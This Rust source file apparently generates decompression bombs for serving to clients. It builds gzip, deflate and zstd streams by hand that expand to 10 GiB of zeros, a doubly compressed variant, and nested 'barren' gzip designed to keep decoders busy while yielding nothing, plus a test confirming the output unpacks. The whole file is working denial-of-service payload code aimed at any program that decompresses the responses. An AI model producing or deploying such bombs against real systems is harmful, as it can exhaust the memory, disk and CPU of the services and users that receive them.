//! Small answers that unpack to very much: zeros, which compress so well that one block stands for a
//! mebibyte, repeated on the fly.

use std::io::{self, Write};
use std::sync::OnceLock;

use flate2::write::GzEncoder;
use flate2::{Compress, Compression, Crc, FlushCompress};

const MIB: u64 = 1 << 20;
const DEFAULT_SIZE: u64 = 10 << 30;
/// The largest block of zstd, and a block of it: not last, one repeated byte, 131072 times zero.
const ZSTD_BLOCK: u64 = 128 << 10;
const ZSTD_ZEROS: [u8; 4] = [0x02, 0x00, 0x10, 0x00];

/// A compressed stream of zeros: `head`, `block` so many times, `tail`.
pub struct Bomb {
    head: Vec<u8>,
    block: Vec<u8>,
    times: u64,
    tail: Vec<u8>,
}

impl Bomb {
    pub fn new(coding: &str, size: u64) -> Option<Bomb> {
        let times = size.div_ceil(MIB);
        let unpacked = times * MIB;
        let deflated = |head: &[u8], tail: Vec<u8>| Bomb {
            head: head.to_vec(),
            block: deflated_mebibyte().to_vec(),
            times,
            // An empty last block before the format's own end.
            tail: [vec![0x03, 0x00], tail].concat(),
        };
        Some(match coding {
            "gzip" => {
                let mut tail = crc_of_zeros(times).to_le_bytes().to_vec();
                tail.extend_from_slice(&(unpacked as u32).to_le_bytes());
                deflated(b"\x1f\x8b\x08\0\0\0\0\0\0\xff", tail)
            }
            "deflate" => {
                // Adler-32 of zeros: the low half stays 1, the high half counts.
                let adler = ((unpacked % 65521) as u32) << 16 | 1;
                deflated(b"\x78\x9c", adler.to_be_bytes().to_vec())
            }
            "zstd" => Bomb {
                // Magic number, no checksum and no size, a window of 128 KiB.
                head: b"\x28\xb5\x2f\xfd\x00\x38".to_vec(),
                block: ZSTD_ZEROS.to_vec(),
                times: unpacked / ZSTD_BLOCK,
                // An empty last block.
                tail: vec![0x01, 0x00, 0x00],
            },
            _ => return None,
        })
    }

    pub fn length(&self) -> u64 {
        self.head.len() as u64 + self.block.len() as u64 * self.times + self.tail.len() as u64
    }

    /// Hands out the stream in pieces of moderate size.
    pub fn write(&self, mut out: impl FnMut(&[u8]) -> io::Result<()>) -> io::Result<()> {
        out(&self.head)?;
        let together = (64 << 10) / self.block.len() as u64;
        let many = self.block.repeat(together.min(self.times) as usize);
        let mut left = self.times;
        while left > 0 {
            let now = left.min(together);
            out(&many[..self.block.len() * now as usize])?;
            left -= now;
        }
        out(&self.tail)
    }
}

/// A mebibyte of zeros as deflate blocks that end at a byte and refer to nothing before them.
fn deflated_mebibyte() -> &'static [u8] {
    static BLOCK: OnceLock<Vec<u8>> = OnceLock::new();
    BLOCK.get_or_init(|| {
        let mut out = Vec::with_capacity(16 << 10);
        // Zeros into a buffer with room for the result: there is nothing to fail.
        let _ = Compress::new(Compression::best(), false).compress_vec(
            &vec![0; MIB as usize],
            &mut out,
            FlushCompress::Full,
        );
        out
    })
}

/// The CRC of so many mebibytes, by doubling.
fn crc_of_zeros(mut times: u64) -> u32 {
    let mut power = Crc::new();
    power.update(&vec![0; MIB as usize]);
    let mut all = Crc::new();
    while times > 0 {
        if times & 1 == 1 {
            all.combine(&power);
        }
        let mut same = Crc::new();
        same.combine(&power);
        power.combine(&same);
        times >>= 1;
    }
    all.sum()
}

/// 10 GiB of zeros, compressed twice.
pub fn chain() -> &'static [u8] {
    static CHAIN: OnceLock<Vec<u8>> = OnceLock::new();
    CHAIN.get_or_init(|| {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
        if let Some(bomb) = Bomb::new("gzip", DEFAULT_SIZE) {
            let _ = bomb.write(|piece| encoder.write_all(piece));
        }
        encoder.finish().unwrap_or_default()
    })
}

/// What keeps a decoder busy and gives nothing: "body" in gzip, behind it a hundred thousand empty members or, as a `tail`,
/// 64 MiB that are no member; all of it compressed `layers` times more.
pub fn barren(layers: u64, tail: bool) -> Vec<u8> {
    let member = |content: &[u8]| {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
        // Into memory: there is nothing to fail.
        let _ = encoder.write_all(content);
        encoder.finish().unwrap_or_default()
    };
    let mut packed = member(b"body");
    packed.extend(if tail { vec![0; 64 << 20] } else { member(b"").repeat(100_000) });
    (0..layers).fold(packed, |packed, _| member(&packed))
}

pub const fn default_size() -> u64 {
    DEFAULT_SIZE
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    fn bytes(coding: &str, size: u64) -> Vec<u8> {
        let bomb = Bomb::new(coding, size).unwrap();
        let mut out = Vec::new();
        bomb.write(|piece| out.write_all(piece)).unwrap();
        assert_eq!(out.len() as u64, bomb.length());
        out
    }

    #[test]
    fn they_unpack_to_zeros() {
        let size = 70 * MIB + 1;
        let mut unpacked = [0; 3];
        for (out, coding) in unpacked.iter_mut().zip(["gzip", "deflate", "zstd"]) {
            let packed = bytes(coding, size);
            let mut reader: Box<dyn Read> = match coding {
                "gzip" => Box::new(flate2::read::GzDecoder::new(&packed[..])),
                "deflate" => Box::new(flate2::read::ZlibDecoder::new(&packed[..])),
                _ => Box::new(zstd::Decoder::new(&packed[..]).unwrap()),
            };
            let mut buffer = vec![1; 1 << 20];
            loop {
                let got = reader.read(&mut buffer).unwrap();
                if got == 0 {
                    break;
                }
                assert!(buffer[..got].iter().all(|&byte| byte == 0));
                *out += got as u64;
            }
        }
        assert_eq!(unpacked, [71 * MIB; 3]);
    }
}
